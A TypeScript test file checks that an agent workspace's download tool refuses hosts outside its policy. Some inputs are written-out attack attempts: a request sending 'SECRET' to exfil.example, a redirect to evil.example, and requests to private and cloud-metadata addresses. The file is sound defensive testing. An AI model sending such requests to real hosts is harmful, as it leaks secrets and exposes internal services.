import { once } from 'node:events'
import { createServer, type RequestListener } from 'node:http'
import type { AddressInfo } from 'node:net'

import { createMemoryAdapter } from '@ws/adapter-memory'
import { type AccessEvent, createWorkspace, rules, type Rule } from '@ws/core'
import type { AttachedExecutor, Executor, Guarantees } from '@ws/core/executor'
import type { Download, Downloader } from '@ws/download'
import { createVirtualExecutor, type VirtualExecutorOptions } from '@ws/executor-virtual'
import { createTools, type ToolsOptions } from '@ws/tools'
import { faceNames } from '../src/face-names.ts'
import { describe, expect, it, onTestFinished } from 'vitest'

interface Given {
  readonly executors?: readonly Executor[]
  readonly rules?: readonly Rule[]
  readonly downloads?: ToolsOptions['downloads']
}

function hostsOf({ downloads }: Given): readonly string[] | 'public' | undefined {
  return typeof downloads === 'object' && 'hosts' in downloads ? downloads.hosts : undefined
}

async function open({ executors, rules: given, downloads }: Given) {
  const workspace = await createWorkspace({
    mounts: [{ at: '/', adapter: createMemoryAdapter() }],
    executors,
    rules: given,
  })
  onTestFinished(() => workspace.close())
  const events: AccessEvent[] = []
  workspace.on('access', (event) => event.operation === 'connect' && events.push(event))
  const toolset = createTools(workspace, { face: 'split', downloads })
  onTestFinished(() => toolset.close())
  const download = (url: string) => toolset.run('download', { url, path: '/got' })
  const told = () => events.map(({ outcome, rule, connection }) => [outcome, connection?.host, rule])
  return { workspace, toolset, events, told, download }
}

/** A downloader that leaves the question out, and counts. */
function silent(last?: string): Downloader & { readonly urls: string[] } {
  const urls: string[] = []
  const close = async (): Promise<void> => undefined
  return {
    urls,
    async open(url: string): Promise<Download> {
      urls.push(url)
      async function* stream(): AsyncGenerator<Uint8Array, undefined> {
        yield Buffer.from('content')
        return undefined
      }
      const rest = { status: 200, redirects: 0, client: 'undici', throughTor: false } as const
      return { ...rest, stream: stream(), url: last ?? url }
    },
    close,
    [Symbol.asyncDispose]: close,
  }
}

const interpreter = (network?: VirtualExecutorOptions['network']): Executor => createVirtualExecutor({ network })

/** The interpreter, which declares another network. */
function declaring(network: Guarantees['network'], more: Partial<AttachedExecutor> = {}): Executor {
  const own = createVirtualExecutor()
  const other = <Report extends { readonly guarantees: Guarantees }>(report: Report): Report => ({
    ...report,
    guarantees: { ...report.guarantees, network },
  })
  return {
    ...own,
    probe: async (target) => {
      const report = await own.probe(target)
      return report.available ? { ...report, guarantees: { ...report.guarantees, network } } : report
    },
    attach: async (view) => ({ ...other(await own.attach(view)), ...more }),
  }
}

const listed = () => interpreter({ allow: ['packages.example'] })

async function serve(handler: RequestListener): Promise<number> {
  const server = createServer(handler)
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  onTestFinished(() => {
    server.closeAllConnections()
    server.close()
  })
  return (server.address() as AddressInfo).port
}

describe('downloads obey the policy', () => {
  const cases: readonly (readonly [string, Given, string, string, RegExp])[] = [
    ['beside the list of commands', { executors: [listed()] }, 'exfil.example', 'network', /`network\.allow`/u],
    [
      'at another port',
      { executors: [listed()] },
      'packages.example:8080',
      'network',
      /entry `packages\.example:8080`/u,
    ],
    ['by an address', { executors: [listed()] }, '93.184.216.34', 'network', /is an address.*by its name/isu],
    [
      'that a rule closes',
      { executors: [listed()], rules: [rules.allowHosts([], { name: 'none' })] },
      'packages.example',
      'none',
      /the rule `none`/u,
    ],
    [
      'that a rule closes on the network of the machine',
      { executors: [declaring('none')], rules: [rules.allowHosts(['a.example'])] },
      'b.example',
      'allowHosts',
      /entry `b\.example` in the rule `allowHosts`/u,
    ],
    [
      'that a rule closes, though it is public',
      { downloads: { hosts: 'public', downloader: silent() }, rules: [rules.allowHosts([])] },
      'a.example',
      'allowHosts',
      /the rule `allowHosts`/u,
    ],
    [
      'beside a list of its own',
      { executors: [listed()], downloads: { hosts: ['docs.example'], downloader: silent() } },
      'packages.example',
      'downloads',
      /in the list of hosts that downloads may reach.*`packages\.example` in `downloads\.hosts`/su,
    ],
    [
      'whose requests have rules',
      {
        executors: [
          declaring('names', { explainConnection: () => ({ effect: 'allow', entry: 'x', judgesRequests: true }) }),
        ],
      },
      'api.example',
      'network',
      /rules for requests.*by a command/su,
    ],
  ]

  it.each(cases)(
    '[RU14, NW1, NW6] a host %s is refused before anything goes out',
    async (_, given, host, rule, words) => {
      const downloader = silent()
      const hosts = hostsOf(given)
      const { download, events, told, workspace } = await open({ ...given, downloads: { hosts, downloader } })
      const answer = await download(`https://${host}/?q=SECRET`)
      const [name = '', port] = host.split(':')
      expect(answer).toMatchObject({ isError: true, data: { code: 'EACCES', rule } })
      expect(answer.text).toMatch(words)
      expect(answer.text).toContain(`\`${name}\``)
      expect(answer.text).toContain(`rule \`${rule}\``)
      expect({ urls: downloader.urls, exists: await workspace.exists('/got') }).toEqual({ urls: [], exists: false })
      expect(told()).toEqual([['denied', name, rule]])
      expect(events).toMatchObject([{ door: 'files', path: '/got', code: 'EACCES', connection: { sentBytes: 0 } }])
      if (rule === 'network' && host === 'api.example') return
      const explained = await workspace.explain({ operation: 'connect', host: name, port: Number(port ?? 443), hosts })
      expect(explained).toMatchObject({ effect: 'deny', code: 'EACCES', rule })
      expect(answer.text).toContain(explained.reason)
    },
  )

  it.each([
    ['no executor', {}],
    ['the network `none`', { executors: [interpreter()] }],
    ['an empty machine and a downloader of its own', { executors: [declaring('kernel')], downloads: silent() }],
    ['downloads switched off', { executors: [listed()], downloads: false }],
  ] as const)('[RU14] with %s no face offers them, and a call says what to add', async (_, given: Given) => {
    const { workspace, download, told } = await open(given)
    for (const face of faceNames) {
      const { tools } = createTools(workspace, { face, downloads: given.downloads })
      expect(JSON.stringify(tools)).not.toMatch(/"download"|- download:/u)
    }
    const whole = createTools(workspace, { downloads: given.downloads })
    const single = await whole.run('file_system', { operation: 'download', url: 'https://a.example/x', path: '/x' })
    const isOff = given.downloads === false
    for (const answer of [await download('https://a.example/x'), single]) {
      expect(answer).toMatchObject({
        isError: true,
        data: isOff ? { code: 'ENOTSUP' } : { code: 'EACCES', rule: 'network' },
      })
      expect(answer.text).toContain(isOff ? 'downloads are switched off' : "`downloads: { hosts: ['a.example'] }`")
    }
    const one = ['denied', 'a.example', 'network']
    expect(told()).toEqual(isOff ? [] : [one, one])
    const fetch = await whole.run('file_system', { operation: 'fetch', url: 'https://a.example/x', path: '/x' })
    expect(fetch.text).not.toContain('`download`')
  })

  it.each([
    ['the list of commands', { executors: [listed()] }],
    ['the network of the machine', { executors: [declaring('none')] }],
    ['a list, without an executor', { downloads: { hosts: ['packages.example'] } }],
    ['every public host', { downloads: { hosts: 'public' } }],
  ] as const)('[RU14] with %s they are offered, and done', async (_, given: Given) => {
    const downloader = silent()
    const hosts = hostsOf(given)
    const { toolset, download, told, events } = await open({ ...given, downloads: { hosts, downloader } })
    expect(toolset.tools.map(({ name }) => name)).toContain('download')
    expect(await download('https://packages.example/x')).toMatchObject({ isError: false })
    expect(told()).toEqual([['allowed', 'packages.example', undefined]])
    expect(events).toMatchObject([{ connection: { port: 443 } }])
  })

  it('[RU14, TH3] on the network of the machine, private addresses stay refused', async () => {
    const { download, told } = await open({ executors: [declaring('none')] })
    for (const host of ['127.0.0.1', '169.254.169.254', '2130706433', '[::ffff:10.0.0.1]']) {
      const answer = await download(`http://${host}/`)
      expect(answer).toMatchObject({ isError: true, data: { code: 'EACCES' } })
    }
    expect(told().map(([outcome]) => outcome)).toEqual(['denied', 'denied', 'denied', 'denied'])
  })

  it('[RU14, NW6] a redirect to an unlisted host is refused before it is looked up, with an event for each', async () => {
    const port = await serve(({ headers, url }, response) => {
      const to = url === '/to' ? { location: `http://evil.example:${headers.host?.split(':')[1]}/?d=x` } : {}
      response.writeHead(url === '/to' ? 302 : 200, to).end('hello')
    })
    const resolved: string[] = []
    const resolve = async (name: string) => {
      resolved.push(name)
      return ['127.0.0.1']
    }
    const downloads = { hosts: [`files.example:${port}`], addresses: ['127.0.0.1'], resolve }
    const { workspace, download, told, events } = await open({ downloads })
    const refused = await download(`http://files.example:${port}/to`)
    expect(refused).toMatchObject({ isError: true, data: { code: 'EACCES', rule: 'downloads' } })
    expect(refused.text).toContain('`evil.example` is not in the list')
    expect({ resolved, exists: await workspace.exists('/got') }).toEqual({ resolved: ['files.example'], exists: false })
    expect(told()).toEqual([
      ['allowed', 'files.example', undefined],
      ['denied', 'evil.example', 'downloads'],
    ])
    events.length = 0
    expect(await download(`http://files.example:${port}/`)).toMatchObject({ isError: false })
    expect(await workspace.readText('/got')).toBe('hello')
    expect(told()).toEqual([['allowed', 'files.example', undefined]])
    expect(events[0]).toMatchObject({ path: '/got', connection: { entry: `files.example:${port}`, port } })
  })

  it('[RU14] a downloader that follows a redirect by itself leaves nothing of an unlisted host', async () => {
    const { workspace, download, told } = await open({
      executors: [listed()],
      downloads: silent('https://evil.example/x'),
    })
    expect(await download('https://packages.example/x')).toMatchObject({ isError: true, data: { code: 'EACCES' } })
    expect(await workspace.exists('/got')).toBe(false)
    expect(told()).toEqual([['denied', 'evil.example', 'network']])
  })

  it('[RU14, NW6] tells of a downloader that fails and tells nothing', async () => {
    const failing = { ...silent(), open: () => Promise.reject(new Error('no')) }
    const { download, told } = await open({ executors: [listed()], downloads: failing })
    expect(await download('https://packages.example/x')).toMatchObject({ isError: true })
    expect(told()).toEqual([['failed', 'packages.example', 'network']])
  })

  it.each([
    [{ host: ['a.example'] }, /`host` is not an option/u],
    [{ hosts: ['https://a.example'] }, /`hosts\[0\]` must be a name/u],
    [{ hosts: 'all' }, /`hosts` must be `public`, or a list of hosts/u],
  ])('[RU14] bad options are refused when the tools are made: %j', async (downloads, message) => {
    const workspace = await createWorkspace({ mounts: [{ at: '/', adapter: createMemoryAdapter() }] })
    onTestFinished(() => workspace.close())
    expect(() => createTools(workspace, { downloads: downloads as ToolsOptions['downloads'] })).toThrow(message)
  })
})
